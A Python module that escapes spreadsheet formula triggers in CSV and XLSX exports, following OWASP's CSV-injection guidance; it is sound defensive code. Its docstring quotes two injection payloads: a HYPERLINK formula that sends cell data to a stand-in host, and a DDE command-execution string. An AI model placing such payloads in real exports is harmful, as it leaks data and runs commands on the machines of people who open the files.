"""Cells that a spreadsheet never runs: the one rule against formula injection in every CSV and XLSX export.

A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a carriage return) as a
formula: a vendor name `=HYPERLINK("https://evil.example/?"&A1,"click")` or `-2+3+cmd|' /C calc'!A0` in an export
would run when finance opens it. OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection, as of
2025): prefix such a TEXT cell with a single quote, which the spreadsheet shows as text and does not evaluate.

Numbers stay numbers: a Decimal, int or float is passed through untouched, and so is a string that is a plain
decimal number (`-3.5`, `+1E+5`: the exports write exact figures as text so no digit is lost, and a spreadsheet reads
such a cell as that number, never as a formula). Only the export's own formulas are written unescaped, by the code
that builds them, never through these functions.

Pure module (no Django): plain values in, plain values out.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP: =, +, -, @, tab, carriage return).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_text(value: str) -> str:
    """`value` as a cell no spreadsheet evaluates: a leading `'` when it starts with a formula trigger, unless it is
    a plain number."""
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """A cell value for an export: text through safe_text(); numbers, booleans, dates and None unchanged."""
    if isinstance(value, str):
        return safe_text(value)
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through safe_cell()."""
    return [safe_cell(value) for value in values]
